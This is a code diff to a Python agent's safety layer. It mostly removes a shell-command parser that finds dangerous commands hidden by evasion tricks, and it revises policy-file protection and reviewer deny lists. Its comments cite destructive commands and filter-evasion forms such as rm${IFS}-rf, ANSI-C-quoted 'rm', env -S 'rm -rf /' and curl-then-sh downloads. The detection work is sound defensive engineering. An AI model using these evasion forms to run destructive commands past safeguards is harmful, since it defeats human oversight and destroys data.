-            if char == "'":
-                end = text.find("'", pos + 1)
-                end = len(text) if end < 0 else end
-                builder.parts.append(text[pos + 1:end])
-                builder.quoted, pos = True, end + 1
-            elif char == '"':
-                builder.quoted = True
-                pos = self._double_quoted(pos + 1, builder, '"')
-            elif char == "\\":
-                builder.parts.append(text[pos + 1:pos + 2])
-                builder.quoted, pos = True, pos + 2
-            elif char == "$":
-                pos = self._dollar(pos, builder, quoted=False)
-            elif char == "`":
-                pos = self._backtick(pos, builder, quoted=False)
-            else:
-                builder.parts.append(char)
-                pos += 1
-        return builder.words(), min(pos, len(text))
-
-    def _tick(self, steps=1):
-        """Count parser steps: past MAX_TOKENS the input is too complex to analyse."""
-        self.state.tokens += steps
-        if self.state.tokens > MAX_TOKENS:
-            raise _TooComplex(f"more than {MAX_TOKENS:,} words, operators and quotes")
-
-    def _double_quoted(self, pos, builder, end_char):
-        """Inside "…" (or a heredoc body: end_char ""), $(…) and `…` still run."""
-        text = self.text
-        while pos < len(text):
-            self._tick()
-            plain = _IN_DOUBLE_QUOTES.match(text, pos)
-            if plain:
-                builder.parts.append(plain.group())
-                pos = plain.end()
-                continue
-            char = text[pos]
-            if char == end_char:
-                return pos + 1
-            if char == "\\":
-                following = text[pos + 1:pos + 2]
-                builder.parts.append(following if following in '$`"\\' else char + following)
-                pos += 2
-            elif char == "$":
-                pos = self._dollar(pos, builder, quoted=True)
-            elif char == "`":
-                pos = self._backtick(pos, builder, quoted=True)
-            else:
-                builder.parts.append(char)
-                pos += 1
-        return len(text)
-
-    def _dollar(self, pos, builder, quoted):
-        text = self.text
-        following = text[pos + 1:pos + 2]
-        if following == "(":
-            return self._substitution(pos + 2, builder, pos, quoted)
-        if following == "{":
-            return self._braced_parameter(pos, builder, quoted)
-        if following == "'" and not quoted:               # $'\x72m' (ANSI-C quoting)
-            body = _ANSI_C_STRING.match(text, pos + 2)
-            self._tick(body.group().count("\\"))
-            builder.parts.append(_ANSI_C_ESCAPE.sub(_ansi_c_character, body.group()))
-            builder.quoted = True
-            return body.end() + 1
-        if following == '"' and not quoted:
-            builder.quoted = True
-            return self._double_quoted(pos + 2, builder, '"')
-        name = _NAME.match(text, pos + 1)
-        if name:
-            self._parameter(name.group(), "$" + name.group(), builder, quoted)
-            return name.end()
-        if following and following in "@*#?$!-0123456789":
-            builder.parts.append("$" + following)
-            builder.computed = True
-            return pos + 2
-        builder.parts.append("$")
-        return pos + 1
-
-    def _parameter(self, name, written_as, builder, quoted):
-        if name == "IFS":                                 # rm${IFS}-rf: a space
-            builder.parts.append(" " if quoted else _SPLIT)
-            return
-        value = self.state.variables.get(name)
-        if value is None or (self.state.ifs is None and not quoted):
-            builder.parts.append(written_as)             # unknown, or split in unknown ways
-            builder.computed = True
-        else:
-            self._tick(len(value) // 256)                # expansions count against the budget
-            self._append_value(value, builder, quoted)
-
-    def _append_value(self, value, builder, quoted):
-        """A known value; unquoted, it splits at the characters of IFS (a=rm -rf /; $a)."""
-        separators = self.state.ifs
-        if quoted or not separators or not any(c in value for c in separators):
-            builder.parts.append(value)
-            return
-        one = separators[0]                              # every separator becomes the first
-        for k, piece in enumerate(value.translate({ord(c): one for c in separators}).split(one)):
-            if k:
-                builder.parts.append(_SPLIT)
-            if piece:
-                builder.parts.append(piece)
-
-    def _braced_parameter(self, pos, builder, quoted):
-        text, end, depth = self.text, pos + 2, 1
-        while end < len(text):
-            chunk = _BRACE_CONTENT.match(text, end)
-            if chunk:
-                end = chunk.end()
-                continue
-            self._tick()
-            depth += {"{": 1, "}": -1}.get(text[end], 0)
-            if depth == 0:
-                break
-            end += 2 if text[end] == "\\" else 1
-        inner = text[pos + 2:end]
-        if "$(" in inner or "`" in inner:                 # ${x:-$(reboot)} runs reboot
-            _Parser(inner, self.state, self.depth + 1)._double_quoted(0, _WordBuilder(), "")
-        name = _NAME.fullmatch(inner)
-        if name:
-            self._parameter(inner, "${" + inner + "}", builder, quoted)
-        elif inner.startswith("IFS") and inner[3:4] in ":-=+?#%/^,@[":
-            builder.parts.append(" " if quoted else _SPLIT)   # ${IFS:0:1}
-        else:
-            builder.parts.append("${" + inner + "}")
-            builder.computed = True
-        return end + 1
-
-    def _substitution(self, pos, builder, start, quoted):
-        """$( … ), <( … ), >( … ): read the commands inside, one level deeper."""
-        first = len(self.state.commands)
-        end = self._group(pos, ")", frozenset(), ())
-        self._substituted(self.state.commands[first:], self.text[start:end], builder, quoted)
-        return end
-
-    def _backtick(self, pos, builder, quoted):
-        body = _BACKTICK_BODY.match(self.text, pos + 1)
-        inner = re.sub(r"\\([`$\\])", r"\1", body.group())
-        first, cwds = len(self.state.commands), self._save_cwds()
-        _Parser(inner, self.state, self.depth + 1, self.func).command_list(0)
-        self._restore_cwds(cwds)                         # `…` runs in a subshell
-        end = body.end() + 1
-        self._substituted(self.state.commands[first:], self.text[pos:end], builder, quoted)
-        return end
-
-    def _substituted(self, inner, written_as, builder, quoted):
-        """A substitution's value: what `$(echo rm)` prints when that is known,
-        else the text as written, marked as computed at run time."""
-        builder.subs += inner
-        call = inner[0].call if len(inner) == 1 else None
-        value = None
-        if (call and call.name in ("echo", "printf") and not inner[0].redirects
-                and not any(w.computed for w in call.words)):
-            value = printed_text(call)
-        if value is not None:
-            self._append_value(value.rstrip("\n"), builder, quoted)
-        else:
-            builder.parts.append(written_as)
-            builder.computed = True
-
-    def _finish(self, cmd):
-        """A simple command is complete: remember assignments, find what really runs."""
-        if not cmd.words and not cmd.redirects:
-            return
-        state = self.state
-        if len(state.commands) >= MAX_COMMANDS:
-            raise _TooComplex(f"more than {MAX_COMMANDS:,} commands")
-        state.commands.append(cmd)
-        cmd.cwds, cmd.called = state.cwds, state.called
-        self._remember_assignments(cmd)
-        cmd.call = self._unwrap(cmd)
-        self._remember_files(cmd)
-        if cmd.call.name in ("cd", "pushd", "popd"):
-            self._change_directory(cmd.call)
-
-    def _remember_files(self, cmd):
-        """Files this input downloads (curl -o x.sh, wget, curl > x.sh), writes with
-        known text (echo 'rm -rf /' > x.sh) or copies from a program (cp /bin/rm x), for
-        when it runs them: sh x.sh, ./x.sh, ./x -rf ~."""
-        call = cmd.call
-        name = call.name
-        if name in ("cp", "ln", "install", "mv") and len(call.arguments.operands) == 2:
-            source, target = map(_command_name, call.arguments.operands)
-            if target and source != target:
-                self.state.renamed[target] = source
-        if not cmd.redirects and name not in ("curl", "wget", "tee"):
-            return
-        targets = [t.text for op, t in cmd.redirects if op in (">", ">>", ">|", "&>")]
-        if name in ("curl", "wget"):
-            self.state.downloads |= downloaded_files(name, call.args) | set(
-                map(posixpath.basename, targets))
-        if name == "tee":
-            targets += call.arguments.operands
-        for target in targets if name in ("echo", "printf", "cat", "tee") else ():
-            self.state.scripts[posixpath.basename(target)] = cmd   # its text: written_text
-
-    def _remember_assignments(self, cmd):
-        """a=rm; $a -rf /: a value assigned in the same input is filled in later.
-        A name assigned two different values is unknown from then on, and so is a value
-        longer than MAX_VALUE_CHARS (b=$a$a$a… would grow exponentially)."""
-        words = cmd.words
-        if words and words[0].text in ("export", "declare", "local", "readonly", "typeset"):
-            words = [w for w in words[1:] if not w.text.startswith("-")]
-        if not words or not _ASSIGNMENT.match(words[0].text) or not all(
-                _ASSIGNMENT.match(w.text) for w in words):
-            return
-        known = self.state.variables
-        for word in words:
-            name, _, value = word.text.partition("=")
-            name = name.rstrip("+")
-            if value[:1] == "~":
-                value = _expand_home(value)              # a=~/x: ~ is expanded here
-            if word.computed or len(value) > MAX_VALUE_CHARS or known.get(name, value) != value:
-                value = None
-            known[name] = value
-            if name == "IFS":                            # IFS=,; x=rm,-rf,/; $x
-                self.state.ifs = value if value is None or len(value) <= 16 else None
-
-    def _unwrap(self, cmd, words=None, alternative=False) -> Call:
-        """Skip what only runs the rest of the words (sudo, env, nice, xargs, …),
-        then read what this command runs in turn (sh -c, eval, find -exec, …)."""
-        words, tags = words or cmd.words, set(cmd.tags)
-        texts = [w.text for w in words]
-        feeder, i = None, 0          # xargs or parallel and its options: they add words
-        while i < len(words):
-            name = _command_name(texts[i])
-            if _ASSIGNMENT.match(texts[i]) or name in KEYWORDS:
-                i += 1
-                continue
-            if name in NOT_A_COMMAND or name not in WRAPPERS:
-                break
-            takes_value, operands_before = WRAPPERS[name]
-            options = split_arguments(texts, takes_value, i + 1, stop_at_operand=True)
-            end, values = options.end, options.values
-            if uses_option(options, WRAPPER_ONLY_OPTIONS.get(name, set())):
-                i = len(words)                           # command -v rm: nothing runs
-                break
-            if name == "runuser" and not {"-u", "--user"} & set(values):
-                break                                    # runuser USER -c CMD: like su
-            if name == "sudo" and uses_option(options, {"-S", "--stdin"}):
-                tags.add("sudo_stdin")
-            if name in ("xargs", "parallel"):
-                tags.add("xargs")
-                feeder = (name, options)
-            if name == "env" and texts[end:end + 1] == ["-"]:
-                end += 1                                 # env - = env -i
-            split_string = values.get("-S") or values.get("--split-string")
-            if name == "env" and split_string:           # env -S 'rm -rf /'
-                self._payload(" ".join([split_string] + [_quote(t) for t in texts[end:]]))
-                i = len(words)
-                break
-            i = end + operands_before
-        items = None                                     # parallel CMD ::: ARGS
-        if feeder and feeder[0] == "parallel" and ":::" in texts[i:]:
-            cut = texts.index(":::", i)
-            items = [t for t in texts[cut + 1:] if t not in (":::", "::::", ":::+")]
-            words, texts = words[:cut], texts[:cut]
-            if i >= cut:                                 # parallel ::: 'rm -rf /'
-                for line in items:
-                    self._payload(line)
-        if i >= len(words) or _command_name(texts[i]) in NOT_A_COMMAND:
-            return self._call("", [], cmd, tags)
-        name, args = _command_name(texts[i]), words[i + 1:]
-        if words[i].computed and re.search(r"[$`]", name):
-            tags.add("computed_name")                    # $a -rf /, $(…) -rf /
-        if not alternative:
-            self._other_names(cmd, words, i, name, tags)
-        if feeder:                                       # echo / | xargs rm -rf
-            args = fed_arguments(args, feeder, cmd, self.state.scripts, items)
-        self._run_carried(name, args, [w.text for w in args], tags)
-        return self._call(name, args, cmd, tags, "" if words[i].computed else texts[i])
-
-    def _other_names(self, cmd, words, i, name, tags):
-        """What else the command word may run: each known command a glob names
-        (/bin/r? -rf ~), a program copied to this name (cp /bin/rm x; ./x), an alias."""
-        state = self.state
-        if not (_GLOB.search(name) or name in state.renamed or name in state.aliases):
-            return
-        others = []
-        if is_glob_name(name):
-            tags.add("computed_name")
-            others = names_matching(name, known_commands())
-        if name in state.renamed:
-            others.append(state.renamed[name])
-        self._tick(4 * len(others))                      # each is a whole command to check
-        for other in others:
-            renamed = words[:i] + [words[i]._replace(text=other)] + words[i + 1:]
-            cmd.alternatives.append(self._unwrap(cmd, renamed, alternative=True))
-        alias = state.aliases.pop(name, None)            # not inside its own expansion
-        if alias is not None:
-            self._payload(" ".join([alias] + [_quote(w.text) for w in words[i + 1:]]))
-            state.aliases[name] = alias
-
-    def _call(self, name, words, cmd, tags, path=""):
-        downloads = self.state.downloads
-        if name in downloads or (
-                (name in SHELLS or name in ("source", ".") or interpreter_base(name))
-                and any(posixpath.basename(w.text) in downloads for w in words)):
-            tags.add("runs_download")                   # curl -o x.sh … && sh x.sh
-        return Call(name, words, cmd, tags, path)
-
-    def _run_carried(self, name, words, args, tags):
-        """What a command runs in turn is analysed one level deeper: shells with -c,
-        eval, su -c, script -c, flock, ssh, watch, find -exec, tmux, screen, git -c,
-        docker exec, sed's e command, program options."""
-        if name in SHELLS:
-            mode, program = shell_program(args)
-            if mode == "c" and program:
-                self._payload(program)
-        elif name == "eval" or name == "watch":
-            start = 0 if name == "eval" else first_operand(args, {"-n", "--interval"})
-            self._payload(" ".join(args[start:]))        # eval and watch join their words
-        elif name in ("su", "runuser", "script", "flock", "sg"):
-            parsed = split_arguments(args, {"-c", "--command", "-s", "--shell", "-g", "-G",
-                                            "-u", "-w", "--timeout", "-E"})
-            program = parsed.values.get("-c") or parsed.values.get("--command")
-            if program:
-                self._payload(program)
-            elif name in ("flock", "sg") and len(parsed.operands) > 1:
-                self._payload(" ".join(map(_quote, parsed.operands[1:])))
-        elif name in ("ssh", "scp", "sftp"):
-            for k, text in enumerate(args):              # -o ProxyCommand=CMD runs here
-                option = args[k + 1] if text == "-o" and k + 1 < len(args) else (
-                    text[2:] if text.startswith("-o") else "")
-                key, _, value = option.replace(" ", "=", 1).partition("=")
-                if key.lower() in ("proxycommand", "localcommand"):
-                    self._payload(value)
-            start = first_operand(args, set("-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p "
-                                            "-Q -R -S -W -w -B".split()))
-            if name == "ssh":                            # the remote shell joins them too
-                self._payload(" ".join(args[start + 1:]))
-        elif name == "find":
-            self._find_exec(args)
-        elif name == "alias":                            # alias x='rm -rf /' runs nothing
-            for definition in args:                      # until x is used: _other_names
-                alias, equals, value = definition.partition("=")
-                if equals:
-                    self.state.aliases[alias] = value
-        elif name == "trap" and args and not args[0].startswith("-"):
-            self._payload(args[0])                       # trap 'rm -rf /' EXIT
-        elif name in PROGRAM_OPTIONS or name == "git":
-            programs = programs_named(name, args) if name != "git" else git_programs(args)
-            for program in programs:
-                if _command_name((program.split() or [""])[0]) not in HARMLESS_PROGRAMS:
-                    tags.add("program_option")
-                self._payload(program)
-        elif name in EDITORS:                            # vim -c '!rm -rf ~', less +'!…'
-            for command in editor_commands(name, args):
-                if command.startswith("!"):
-                    self._payload(command[1:])          # a shell command line
-                elif not EDITOR_MOVES.fullmatch(command):
-                    tags.add("program_option")          # could call system(): for a person
-        else:
-            for line in carried_commands(name, args):   # tmux, screen, docker exec, sed e
-                self._payload(line)
-
-    def _find_exec(self, args):
-        """find … -exec CMD {} ; (also -execdir, -ok, -okdir): CMD runs per file. {}
-        stands for the start points when no test picks files (find / -exec rm -rf {} +
-        is rm -rf /), else for a file under them (find /etc -name x -exec rm {} +)."""
-        starts = find_start_points(args)
-        names = starts if not find_filtered(args) else [s.rstrip("/") + "/{}" for s in starts]
-        i = 0
-        while i < len(args):
-            if args[i] in ("-exec", "-execdir", "-ok", "-okdir"):
-                end = i + 1
-                while end < len(args) and args[end] not in (";", "+"):
-                    end += 1
-                run = [w.replace("{}", n) if "{}" in w else w for w in args[i + 1:end]
-                       for n in (names if "{}" in w else [""])]
-                self._payload(" ".join(map(_quote, run)), tags={"find"})
-                i = end
-            i += 1
-
-    def _payload(self, text, tags=()):
-        if not text.strip():
-            return
-        cwds = self._save_cwds()                         # sh -c 'cd /; …': a child shell
-        _Parser(text, self.state, self.depth + 1, self.func, tags).command_list(0)
-        self._restore_cwds(cwds)
-
-
-def fed_arguments(args: list, feeder: tuple, cmd, scripts: dict, items=None) -> list:
-    """The words xargs (or parallel) adds to its command: what it reads from the pipe,
-    a here-string or -a FILE (when the input shows it), split at NUL for -0, at -d's
-    delimiter or at blanks; with -I R they replace R instead."""
-    name, options = feeder
-    values, replace = options.values, None
-    if name == "parallel" or "i" in options.letters:
-        replace = "{}"
-    replace = values.get("-I") or values.get("--replace") or replace
-    if items is None:
-        texts = piped_text(cmd.prev) + cmd.stdin
-        source = values.get("-a") or values.get("--arg-file")
-        for word in cmd.words if source else ():
-            if word.text == source:                      # -a <(echo /), -a list
-                texts += piped_text(word.subs) + [
-                    written_text(scripts.get(posixpath.basename(source)))]
-        delimiter = values.get("-d") or values.get("--delimiter")
-        if "0" in options.letters or "--null" in options.longs:
-            delimiter = "\0"
-        elif delimiter:
-            delimiter = _ANSI_C_ESCAPE.sub(_ansi_c_character, delimiter)[:1] or None
-        items = [item for text in texts for item in text.split(delimiter) if item.strip()]
-    if replace and any(replace in w.text for w in args):
-        joined = " ".join(items)
-        return [w._replace(text=w.text.replace(replace, joined)) for w in args]
-    return args + [Word(item, False, False, ()) for item in items]
-
-
-def git_programs(args: list) -> list[str]:
-    """git -c alias.x='!CMD' and -c core.pager=CMD (GIT_PROGRAM_SETTINGS): programs."""
-    programs, end = [], first_operand(args, TAKES_VALUE["git"])
-    for k, text in enumerate(args[:end]):
-        setting = args[k + 1] if text == "-c" and k + 1 < end else text[2:] if (
-            text.startswith("-c") and "=" in text) else ""
-        key, _, value = setting.partition("=")
-        key = key.lower()
-        if key.startswith("alias.") and value.startswith("!"):
-            programs.append(value[1:])
-        elif key in GIT_PROGRAM_SETTINGS or key.startswith("pager."):
-            programs.append(value)
-    return programs
-
-
-EDITORS = {"vi", "vim", "nvim", "view", "ex", "vimdiff", "rvim", "gvim", "less"}
-EDITOR_MOVES = re.compile(r"\d*|[/?].*")    # +42, +/pattern: a line to start at, no command
-
-
-def editor_commands(name: str, args: list) -> list[str]:
-    """What an editor is told to run at start-up: vim -c CMD, --cmd CMD, +CMD, and the
-    scripts -S FILE and -u FILE (as "source FILE"); less +CMD. less -c is another flag."""
-    commands = [a[1:] for a in args if a.startswith("+")]
-    if name != "less":
-        for k, option in enumerate(args[:-1]):
-            if option in ("-c", "--cmd"):
-                commands.append(args[k + 1])
-            elif option in ("-S", "-u") and args[k + 1] not in ("NONE", "NORC"):
-                commands.append("source " + args[k + 1])
-    return [command.lstrip(": ") for command in commands]
-
-
-def carried_commands(name: str, args: list) -> list[str]:
-    """Command lines that tmux, screen, docker/podman/kubectl exec and sed's e run."""
-    if name == "sed":
-        return sed_commands(args)
-    if name == "gdb" and "--args" in args:
-        return [" ".join(map(_quote, args[args.index("--args") + 1:]))]
-    if name == "tmux":
-        start = first_operand(args, {"-c", "-f", "-L", "-S", "-T"})
-        parsed = split_arguments(args, {"-c"})
-        verb = args[start] if start < len(args) else ""
-        lines = [parsed.values["-c"]] if "-c" in parsed.values else []
-        if verb in TMUX_RUNS:
-            at = first_operand(args, TMUX_VALUES | ({"-d"} if verb.startswith("run") else set()),
-                               start + 1)
-            lines.append(" ".join(a for a in args[at:] if a not in ("Enter", "C-m")))
-        return lines
-    if name == "screen":
-        parsed = split_arguments(args, {"-S", "-c", "-e", "-h", "-p", "-T", "-X", "-s"},
-                                 stop_at_operand=True)
-        rest = args[parsed.end:]
-        if "-X" in parsed.values:                        # screen -X stuff 'CMD\n'
-            rest = [parsed.values["-X"]] + rest
-            return [" ".join(rest[1:])] if rest[0] == "stuff" else []
-        return [" ".join(map(_quote, rest))]
-    if name in ("docker", "podman", "kubectl"):
-        return [" ".join(map(_quote, container_command(name, args)))]
-    return []
-
-
-TMUX_RUNS = {"new-session", "new", "new-window", "neww", "split-window", "splitw",
-             "respawn-pane", "respawnp", "respawn-window", "respawnw", "run-shell", "run",
-             "display-popup", "popup", "pipe-pane", "pipep", "send-keys", "send"}
-TMUX_VALUES = {"-c", "-e", "-F", "-f", "-n", "-s", "-t", "-x", "-y", "-l", "-T", "-N"}
-
-
-def container_command(name: str, args: list) -> list[str]:
-    """docker exec [options] CONTAINER CMD…, kubectl exec POD -- CMD…: CMD runs."""
-    if name == "kubectl":
-        return args[args.index("--") + 1:] if "exec" in args and "--" in args else []
-    verb_at = first_operand(args, TAKES_VALUE["docker"])
-    verb_at += args[verb_at:verb_at + 1] == ["container"]
-    if args[verb_at:verb_at + 1] != ["exec"]:
-        return []
-    start = first_operand(args, {"-e", "--env", "-u", "--user", "-w", "--workdir",
-                                 "--env-file", "--detach-keys"}, verb_at + 1)
-    return args[start + 1:]
-
-
-def programs_named(name: str, args: list) -> list[str]:
-    """The values of a read-only tool's program options (rg --pre sh); a long option
-    may be abbreviated (--compress-prog=sh), as GNU tools accept."""
-    programs = PROGRAM_OPTIONS[name]
-    return [value for option, value in split_arguments(args, TAKES_VALUE[name]).values.items()
-            if option in programs or (option.startswith("--") and len(option) > 3
-                                      and any(p.startswith(option) for p in programs))]
-
-
-def _stage_marks(stage: list) -> frozenset:
-    """What a pipeline stage tells the stages after it: the names of its commands,
-    "<decode>" for a decoder (base64 -d) and "<secret>" for a credential file read."""
-    marks = set()
-    for cmd in stage:
-        if cmd.call:
-            marks.add(cmd.call.name)
-            if is_decoder(cmd.call):
-                marks.add("<decode>")
-            if reads_secret(cmd.call):
-                marks.add("<secret>")
-    return frozenset(marks)
-
-
-def _ansi_c_character(match) -> str:
-    escape = match.group(1)
-    if escape[0] in "xuU" and len(escape) > 1:
-        code = int(escape[1:], 16)
-        return chr(code) if code <= 0x10FFFF else ""
-    if escape[0] in "01234567":
-        return chr(int(escape, 8) & 0xFF)
-    if escape[0] == "c" and len(escape) == 2:
-        return chr(ord(escape[1]) & 0x1F)
-    return _ANSI_C_LETTERS.get(escape, "\\" + escape)
+            words = shlex.split(part)
+        except ValueError:
+            return ["*"]
+        while words and (words[0] in ("sudo", "env", "nohup", "exec") or "=" in words[0]):
+            words = words[1:]
+        name = Path(words[0]).name if words else ""
+        operands = [word for word in words[1:] if not word.startswith("-")]
+        if name == "dd":
+            targets += [word[3:] for word in operands if word.startswith("of=")]
+        elif name in PATH_WRITERS:
+            targets += operands
+        elif name == "sed" and any(w.startswith(("-i", "--in-place")) for w in words):
+            targets += operands[1:]                     # the first operand is the script
+    return list(dict.fromkeys(targets))
 
 # ── [s09] Permission system ─────────────────────────────────────────────────
 
@@ -4395,7 +2188,7 @@ def smart_review(context: ApprovalContext, command: str, findings: list[Finding]
     return answer if answer in ("APPROVE", "DENY") else "ESCALATE"
 
 
-ALLOWLIST_FILE = "allowlist.json"       # {"version": 1, "keys": ["git_push_force", ...]}
+ALLOWLIST_FILE = "allowlist.json"       # {"version": 1, "keys": [finding keys, ...]}
 MAX_ALLOWLIST_BYTES = 65_536
 ALLOWLIST_CHANGED = (f"{ALLOWLIST_FILE} changed while the agent was running, but not by an "
                      f"approval prompt: ignored until you restart")
@@ -4505,45 +2298,22 @@ def write_private_json(path: Path, data) -> None:
         raise
 
 
-# Self-protection has two checks. The first reads the paths write_targets() finds
-# (redirects, cp, tee, sed -i, rm …). Many programs write where no parser sees it
-# (rsync, tar -C, unzip -d, wget -P, git clone, patch, ed, awk's print >, a cd first),
-# so the second refuses any command that NAMES a policy file or the folder holding it,
-# unless every command in it only reads (cat, grep, ls …). Neither can see into a
-# program (`python -c "open(...)"`) or a hard link made earlier: allowlist_keys()
-# notices the change afterwards and stops trusting the file.
-GLOB_CHARACTERS = re.compile(r"[*?\[]")
-UNKNOWN_PART = re.compile(r"\$\{?\w*\}?|`[^`]*`?")  # a variable or a command: could be anything
-CHANGES_FOLDER = re.compile(r"(?<![\w./-])(?:cd|pushd|popd|-C|--chdir|--directory)(?![\w./-])")
-
-
 def policy_file_written(command: str) -> Path | None:
-    """The policy file `command` may write, or None: a path write_targets() finds is one
-    (or the folder holding it), or the command names one and does more than read."""
+    """The policy file `command` may write, or None: a path write_targets() finds that
+    is one (or the folder holding it), or the name of one (allowlist.json; not the common
+    config.yaml) in a command that does more than read (cat, grep, ls …); s11: or a file
+    of the configuration chain."""
     policies = [Path(os.path.realpath(path)) for path in policy_files()]
-    targets = write_targets(command)
-    moves = CHANGES_FOLDER.search(normalize_command(command)) is not None
-    written = next((hit for target in targets if target != "*"
-                    and (hit := policy_target(target, policies, moves)) is not None), None)
-    return written or (None if only_reads(command) else policy_named(command, policies)) \
-        or chain_file_written(command)      # s11
-
-
-def policy_target(target: str, policies: list[Path], folder_may_change: bool) -> Path | None:
-    expanded = expand_known_variables(target)
-    if expanded is None or (folder_may_change and not os.path.isabs(expanded)):
-        # We cannot know where it points: refuse it if its name could be a policy file's.
-        name = UNKNOWN_PART.sub("*", target.rstrip("/").rpartition("/")[2]) or "*"
-        return next((p for p in policies if fnmatch.fnmatchcase(p.name, name)), None)
-    path = os.path.join(os.getcwd(), expanded)
-    if GLOB_CHARACTERS.search(expanded):    # a pattern: what it may name, and what it names
-        named = [p for p in policies if fnmatch.fnmatchcase(str(p), os.path.normpath(path))]
-        # The files it matches now, links followed; one folder deep (/*/*/* would walk the disk).
-        found = [] if GLOB_CHARACTERS.search(os.path.dirname(path)) else \
-            [Path(os.path.realpath(match)) for match in glob.glob(path)]
-        return next((p for p in policies if p in named or p in found), None)
-    real = Path(os.path.realpath(path))     # links followed, also to a file not there yet
-    return next((p for p in policies if real in (p, p.parent)), None)
+    for target in write_targets(command):
+        expanded = expand_known_variables(target)   # ~, $HOME, $LEARN_HERMES_HOME
+        real = Path(os.path.realpath(os.path.join(os.getcwd(), expanded or target)))
+        if profile_policy_file(real):               # any profile's, also one not made yet
+            return real
+        if hit := next((p for p in policies if real in (p, p.parent)), None):
+            return hit
+    named = next((p for p in policies if p.name in normalize_command(command)
+                  and p.name != CONFIG_FILE_NAME), None)
+    return (None if only_reads(command) else named) or chain_file_written(command)
 
 
 # Commands that only read or print, whatever their arguments, except the options listed,
@@ -4582,71 +2352,6 @@ def only_reads(command: str) -> bool:
                            for word in raw):
             return False
     return True
-
-
-def policy_named(command: str, policies: list[Path]) -> Path | None:
-    """The policy file that `command` names, or None. With $'…' decoded, quotes removed
-    and ~, $HOME and $LEARN_HERMES_HOME expanded, a word names it when it contains its
-    name (allowlist.json) or LEARN_HERMES_HOME, when a part of it is, or is a pattern
-    that could match, the name of the folder holding it (.learn-hermes), or when it
-    leads to that folder or into it from the working folder (links followed; a pattern
-    by its part before the first * ? or [)."""
-    text = ANSI_C_QUOTED.sub(ansi_c_text, normalize_command(command))
-    text = IFS_VARIABLE.sub(" ", QUOTING.sub("", text))
-    # A project may have its own config.yaml: that name alone refuses nothing (s11); the
-    # agent's own is found by its folder below.
-    named = next((p for p in policies if p.name in text and p.name != CONFIG_FILE_NAME), None)
-    if named is not None or "LEARN_HERMES_HOME" in text:
-        return named or policies[0]
-    folders = {}
-    for path, real in zip(policy_files(), policies):
-        folders.setdefault(path.parent.name, real)      # the first file names its folder
-        folders.setdefault(real.parent.name, real)
-    pieces = dict.fromkeys(piece for word in WORD_BREAK.split(text)
-                           for whole in expand_braces(word)
-                           for piece in (whole, *PIECE_BREAK.split(whole)))
-    for piece in pieces:
-        for part in piece.split("/"):
-            if part and (hit := next((p for name, p in folders.items()
-                                      if could_match(name, part)), None)):
-                return hit
-        path = expand_known_variables(piece) if "$" in piece or "~" in piece else piece
-        path = path and fixed_part(path)
-        # Only a path whose first part exists can lead anywhere: one lstat for most words.
-        if path and os.path.lexists(path.split("/")[0] or "/"):
-            real = Path(os.path.realpath(path))
-            if hit := next((p for p in policies if real == p.parent or p.parent in real.parents),
-                           None):
-                return hit
-    return None
-
-
-WORD_BREAK = re.compile(r"[\s;&|()<>`]+")
-PIECE_BREAK = re.compile(r"[=:,{}]")
-ANSI_C_QUOTED = re.compile(r"\$'((?:[^'\\]|\\.)*)'", re.S)
-ANSI_C_CODE = re.compile(r"\\(?:x([0-9A-Fa-f]{1,2})|u([0-9A-Fa-f]{1,4})|U([0-9A-Fa-f]{1,8})|"
-                         r"([0-7]{1,3}))")
-
-
-def ansi_c_text(match) -> str:
-    """$'\\x61llow' as bash reads it (allow); other escapes are left to QUOTING."""
-    return ANSI_C_CODE.sub(lambda m: chr(min(int(m[4], 8) if m[4] else
-                                             int(m[1] or m[2] or m[3], 16), 0x10FFFF)), match[1])
-
-
-def fixed_part(path: str) -> str:
-    """The part of a path before its first pattern (st/allow* -> st): where it leads."""
-    parts = path.split("/")
-    end = next((i for i, part in enumerate(parts) if GLOB_CHARACTERS.search(part)), len(parts))
-    return "/".join(parts[:end]) or ("/" if path.startswith("/") else ".")
-
-
-def could_match(name: str, part: str) -> bool:
-    """Is `part` the name, or a shell pattern matching it (a leading dot is matched only
-    by a dot, as the shell does)?"""
-    return part == name or (GLOB_CHARACTERS.search(part) is not None
-                            and fnmatch.fnmatchcase(name, part)
-                            and (part[0] == ".") == (name[0] == "."))
 
 
 def expand_known_variables(target: str) -> str | None:
@@ -6478,8 +4183,15 @@ def hermes_home() -> Path:
     return Path(os.environ.get("LEARN_HERMES_HOME") or Path.home() / ".learn-hermes")
 
 
+SESSION_NUMBERS = itertools.count()     # this process's ids, in the order it made them
+
+
 def new_session_id() -> str:
-    return time.strftime("%Y%m%d-%H%M%S") + "-" + os.urandom(2).hex()
+    """The time to the second (ids sort by age), 4 random hex digits (told apart from
+    another process's) and this process's running number: one process never makes the
+    same id twice, not even thousands in one second (s10 starts children at once)."""
+    return (time.strftime("%Y%m%d-%H%M%S") + "-" + os.urandom(2).hex()
+            + f"{next(SESSION_NUMBERS):04x}")
 
 
 class SessionStore:
@@ -6510,8 +4222,10 @@ class SessionStore:
         self.db.close()
 
     def create_session(self, session_id: str, model: str, source: str) -> None:
+        """A new session row. An id that is taken already fails loudly (sqlite3's
+        IntegrityError), never silently mixing two sessions' messages."""
         with self.db:
-            self.db.execute("INSERT OR IGNORE INTO sessions (id, started_at, model, source) "
+            self.db.execute("INSERT INTO sessions (id, started_at, model, source) "
                             "VALUES (?, ?, ?, ?)", (session_id, time.time(), model, source))
 
     def end_session(self, session_id: str) -> None:
@@ -9019,6 +6733,8 @@ def start_offline_server():
     threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                      daemon=True).start()
     return server
+
+
 DOOR_ERRORS = ("Tool '", "Error: Invalid JSON", "Error: invalid arguments", "Error: arguments")
 
 
@@ -9177,13 +6893,11 @@ def skill_summary(data: dict) -> str | None:
 
 
 # The offline reviewer's rule, simple and visible (a real model reads the command):
-# DENY a recursive delete, a remote script run, a move or permission change of a system
-# folder, or deleting remote branches; APPROVE a short command whose only
+# DENY a recursive delete or a remote script run; APPROVE a short command whose only
 # findings are code run with -c/-e and that writes no file; ESCALATE everything else.
-OFFLINE_REVIEW_DENY = {"rm_recursive", "rm_recursive_force", "curl_pipe_shell",
-                       "wget_pipe_shell", "remote_to_shell", "move_system_dir", "chmod_system",
-                       "git_push_delete"}
-OFFLINE_REVIEW_APPROVE = {"shell_c", "inline_code"}
+OFFLINE_REVIEW_DENY = {"Recursive file deletion", "Recursive/force file deletion",
+                       "Pipe remote script to shell"}
+OFFLINE_REVIEW_APPROVE = {"shell command via -c", "inline code run by an interpreter"}
 
 
